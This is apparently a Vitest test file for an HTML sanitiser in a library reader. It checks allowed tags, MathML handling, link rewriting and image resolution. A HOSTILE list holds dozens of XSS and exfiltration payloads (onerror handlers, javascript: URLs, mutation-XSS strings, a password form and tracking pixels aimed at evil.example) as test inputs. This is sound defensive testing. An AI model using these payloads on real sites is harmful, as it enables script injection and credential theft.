// @vitest-environment jsdom
import { findDropped } from '@hikma/contracts/findDropped'
import { isPageTag } from '@hikma/contracts/pageMarkup'
import { describe, expect, it } from 'vitest'
import { renderPage } from './renderPage.ts'

const NO_FIGURES = new Map<string, string>()

function rendered(html: string, figures = NO_FIGURES): HTMLElement {
  const page = document.createElement('div')
  page.innerHTML = (renderPage(html, figures) as unknown as { toString(): string }).toString()
  return page
}

describe('allowed HTML', () => {
  it.each([
    '<h1>Title</h1><h6 lang="fa" dir="rtl">حاشیه</h6>',
    '<p>One<br>two <strong>b</strong> <b>b</b> <em>e</em> <i>i</i> <u>u</u> <s>s</s> <strike>x</strike></p>',
    '<blockquote><pre><code>let x</code></pre></blockquote>',
    '<ul><li>a</li></ul><ol><li>b</li></ol>',
    '<figure><img src="/api/download/salt/a.png" alt="A" width="3" height="4"><figcaption>A</figcaption></figure>',
    '<table><caption>c</caption><thead><tr><th>h</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    'H<sub>2</sub>O<sup>2</sup> می\u200cخوانم',
    '<span class="note" title="a note">x</span>',
    '<p>One</p><hr><section><p>Two <mark>m</mark> <small>s</small> <kbd>Ctrl</kbd></p></section><aside>a</aside>',
    '<p><cite>c</cite> <q>q</q> <abbr title="a b">ab</abbr> <time datetime="2024-01-02">then</time></p>',
    '<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>',
    '<details open=""><summary>s</summary><p>d</p></details>',
    '<table><tbody><tr><th scope="row" rowspan="2">h</th><td colspan="3">1</td></tr></tbody></table>',
    '<table><colgroup><col span="2"></colgroup><tbody><tr><td>1</td></tr></tbody></table>',
    '<ol start="5" reversed="" type="a"><li value="9">a</li></ol>',
    '<blockquote cite="https://example.org/a">b</blockquote>',
    '<p>where <math alttext="x 1" display="block"><msub><mi>x</mi><mn>1</mn></msub></math> is</p>',
    '<math><mfrac linethickness="0"><mi mathvariant="bold">a</mi><mrow><mo stretchy="false">(</mo></mrow></mfrac></math>',
    '<math><mtable columnalign="left"><mtr><mtd columnspan="2"><mtext>a &lt;b&gt;</mtext></mtd></mtr></mtable></math>',
  ])('is kept: %s', (html) => expect(rendered(html).innerHTML).toBe(html))
})

describe('values of attributes', () => {
  it.each([
    ['<td colspan="0">', '<td>'],
    ['<td colspan="1001" rowspan="99999">', '<td>'],
    ['<td rowspan=" 2 ">', '<td rowspan="2">'],
    ['<td headers="a  b">', '<td headers="user-content-a user-content-b">'],
    ['<th scope="all">', '<th>'],
    ['<td start="2" value="2">', '<td>'],
  ])('of cells are bounded: %s', (cell, kept) =>
    expect(
      rendered(`<table><tr>${cell}</table>`)
        .querySelector('td, th')
        ?.cloneNode()
        .isEqualNode(rendered(`<table><tr>${kept}</table>`).querySelector('td, th')?.cloneNode() ?? null),
    ).toBe(true),
  )
  it.each(['javascript:alert(1)', 'data:text/html,x', '3.html', '//example.org'])(
    'cite is an address of the web: %s',
    (cite) => expect(rendered(`<q cite="${cite}">a</q>`).innerHTML).toBe('<q>a</q>'),
  )
})

describe('formulas', () => {
  it.each([
    [
      'brackets of mfenced stand beside what they enclose',
      '<math><mfenced open="[" close=")"><mi>a</mi><mi>b</mi></mfenced></math>',
      '<math><mrow><mo fence="true" stretchy="true" form="prefix">[</mo><mi>a</mi>' +
        '<mo separator="true" form="infix">,</mo><mi>b</mi>' +
        '<mo fence="true" stretchy="true" form="postfix">)</mo></mrow></math>',
    ],
    [
      'of several languages one is shown',
      '<math><semantics><mi>x</mi><annotation encoding="application/x-tex">x</annotation><annotation-xml encoding="text/html"><p>x</p></annotation-xml></semantics></math>',
      '<math><mrow><mi>x</mi></mrow></math>',
    ],
    [
      'of alternatives the first is shown',
      '<math><maction><mi>x</mi><mrow><mi>y</mi></mrow></maction><mi>z</mi></math>',
      '<math><mrow><mi>x</mi></mrow><mi>z</mi></math>',
    ],
    [
      'a part that cannot be shown leaves a mark',
      '<math><apply><plus/><ci>x</ci></apply><mo>=</mo></math>',
      '<math><mtext class="left-out">[…]</mtext><mo>=</mo></math>',
    ],
    [
      'a text in one holds no elements',
      '<math><mtext>if <b>all</b> <a href="3.html">x</a><img src="a.png"></mtext></math>',
      '<math><mtext>if all x[…]</mtext></math>',
    ],
    ['end where HTML begins', '<math><mi>x</mi><p>y</p>', '<math><mi>x</mi></math><p>y</p>'],
    ['keep their parts together', '<mi>x</mi><mrow>y</mrow>', 'y'],
  ])('%s', (_what, html, shown) => expect(rendered(html).innerHTML).toBe(shown))
})

describe('the mark of what is left out', () => {
  const MARK = '<span class="left-out">[…]</span>'
  it.each([
    ['a<video src="x">b</video>c', `a${MARK}c`],
    ['<svg><g><text>b</text></g></svg>', MARK],
    ['<form>Name <input><input type="hidden"><button>Go</button></form>', `Name ${MARK}Go`],
    ['<script>a</script><style>b</style><!-- <video> --><template>c</template>d', 'd'],
    ['<p title="<video>">a</p>', '<p title="&lt;video&gt;">a</p>'],
  ])('stands in the text: %s', (html, shown) => expect(rendered(html).innerHTML).toBe(shown))
})

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://evil.example/x">x</a>',
  '<a href="filesystem:https://evil.example/x">x</a>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<video src="https://evil.example/x" onerror=alert(1)></video>',
  '<audio src="x" onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<div onclick="alert(1)" onmouseover="alert(1)">x</div>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img srcset="https://evil.example/pixel.gif 1x">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="/api/download/../session">',
  '<picture><source srcset="https://evil.example/x"><img src="x"></picture>',
  '<input type="image" src="https://evil.example/x">',
  '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:99999">x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<x-widget is="evil" onclick=alert(1)>x</x-widget>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1) accesskey=x>x</summary></details>',
  '<ruby onclick=alert(1)><rt><rtc><rb><img src=x onerror=alert(1)></rt></ruby>',
  '<p open datetime="x" src="y" href="javascript:alert(1)">x</p>',
  '<div data-x="1" aria-label="Close" role="button" tabindex="0" contenteditable>x</div>',
]
const INERT_TAGS = new Set('H1 P BR DIV SPAN IMG A TABLE TBODY TR TD DETAILS SUMMARY RUBY RT math mtext'.split(' '))
const INERT_ATTRIBUTES = new Set(['class', 'id', 'title', 'alt', 'href', 'target', 'rel', 'style', 'open'])

describe('hostile HTML', () => {
  it.each(HOSTILE)('is made inert: %s', (html) => {
    for (const element of rendered(html).querySelectorAll('*')) {
      expect(INERT_TAGS).toContain(element.tagName)
      for (const { name } of element.attributes) expect(INERT_ATTRIBUTES).toContain(name)
      expect(element.getAttribute('style') ?? '').not.toMatch(/url|fixed|z-index/)
      const href = element.getAttribute('href')
      if (href !== null) expect(href).toMatch(/^https:/)
    }
  })

  it('keeps the text of a removed element', () => expect(rendered('<marquee>kept</marquee>').textContent).toBe('kept'))
})

describe('the list of what a page loses', () => {
  /** Not the parts of a document, and not elements whose content is parsed otherwise. */
  const isPlain = (html: string) => !/<(base|meta|link|body|template|noscript|math|svg|xmp|style)/i.test(html)
  /** The tags of a page, and the attributes of its allowed tags; not those that depend on their value. */
  const namesIn = (page: Element) =>
    [...page.querySelectorAll('*')].flatMap(({ localName, attributes }) => [
      `tag ${localName}`,
      ...Array.from(attributes, ({ name }) => `attribute ${name}`).filter(
        (name) => isPageTag(localName) && !/ (style|href|src)$/.test(name),
      ),
    ])
  it.each([...HOSTILE.filter(isPlain), '<p role="note" onclick="x">a <font size=3>b</font></p><center>c</center>'])(
    'names the tags and attributes that the sanitiser removes: %s',
    (html) => {
      const kept = new Set(namesIn(rendered(html)))
      const lost = namesIn(new DOMParser().parseFromString(`<body>${html}`, 'text/html').body).filter(
        (name) => !kept.has(name),
      )
      const found = findDropped(html).map(({ kind, name }) => `${kind} ${name}`)
      const listed = found.filter((name) => /^(tag|attribute) /.test(name) && !/ (style|href|src)$/.test(name))
      expect(listed.sort()).toEqual([...new Set(lost)].sort())
    },
  )
})

describe('links', () => {
  it('open in a new tab without opener and referrer', () =>
    expect(rendered('<a href="https://example.org/" target="_top" rel="opener">x</a>').innerHTML).toBe(
      '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">x</a>',
    ))
  it('within the page get the prefix of the ids', () =>
    expect(rendered('<a href="#note" target="_blank">x</a><p id="note">y</p>').innerHTML).toBe(
      '<a href="#user-content-note">x</a><p id="user-content-note">y</p>',
    ))
  it('to a page of the book become fragments, which cannot leave the library', () =>
    expect(rendered('<a href="3.html" target="_blank">x</a><a href="./4.tex#note">y</a>').innerHTML).toBe(
      '<a href="#/3">x</a><a href="#/4/user-content-note">y</a>',
    ))
  it('to an id are never taken for one to another page', () =>
    expect(rendered('<a href="#/3">x</a><a href="#/3/note">y</a>').innerHTML).toBe(
      '<a href="#user-content-/3">x</a><a href="#user-content-/3/note">y</a>',
    ))
  it('to a file of the library open in a new tab', () =>
    expect(rendered('<a href="/api/download/salt/map.png">x</a>').innerHTML).toBe(
      '<a href="/api/download/salt/map.png" target="_blank" rel="noopener noreferrer">x</a>',
    ))
  it.each(['chapter.xhtml', '/about', '../2.html', '?page=2', '', '/api/download/../session', 'ftp://example.org/x'])(
    'that lead nowhere are removed: %j',
    (href) => expect(rendered(`<a href="${href}">x</a>`).innerHTML).toBe('<a>x</a>'),
  )
  it('with an id get a prefix, so that it names no property of the window', () =>
    expect(rendered('<a id="location">x</a>').innerHTML).toBe('<a id="user-content-location">x</a>'))
  it('may have the scheme mailto', () =>
    expect(rendered('<a href="mailto:a@b.c">x</a>').innerHTML).toContain('mailto:a@b.c'))
})

describe('figures', () => {
  const figures = new Map([
    ['شکل ۱.png', '/api/download/salt/%D8%B4.png'],
    ['evil.png', 'javascript:alert(1)'],
    ['far.png', 'https://evil.example/x.png'],
    ['close.png', '"><script>alert(1)</script>'],
  ])
  const source = (html: string) => rendered(html, figures).querySelector('img')?.getAttribute('src') ?? null

  it('get their URL from the info file', () =>
    expect(source('<img src="شکل ۱.png">')).toBe('/api/download/salt/%D8%B4.png'))
  it('may be named with their folder', () =>
    expect(source('<img src="figures/شکل ۱.png">')).toBe('/api/download/salt/%D8%B4.png'))
  it('may be percent-encoded', () =>
    expect(source(`<img src="${encodeURIComponent('شکل ۱.png')}">`)).toBe('/api/download/salt/%D8%B4.png'))
  it('are checked after their URL is resolved', () => {
    expect(source('<img src="evil.png">')).toBeNull()
    expect(source('<img src="far.png">')).toBeNull()
    expect(source('<img src="close.png">')).toBeNull()
  })
  it('keep their alternative text if they cannot be shown', () =>
    expect(rendered('<img src="missing.png" alt="A lamp">').innerHTML).toBe('<img alt="A lamp">'))
  it('may be data URLs', () =>
    expect(source('<img src="data:image/png;base64,AAAA">')).toBe('data:image/png;base64,AAAA'))
  it('of one page do not resolve in the next', () => {
    rendered('<img src="شکل ۱.png">', figures)
    expect(rendered('<img src="شکل ۱.png">').querySelector('img')?.getAttribute('src')).toBeNull()
  })
})
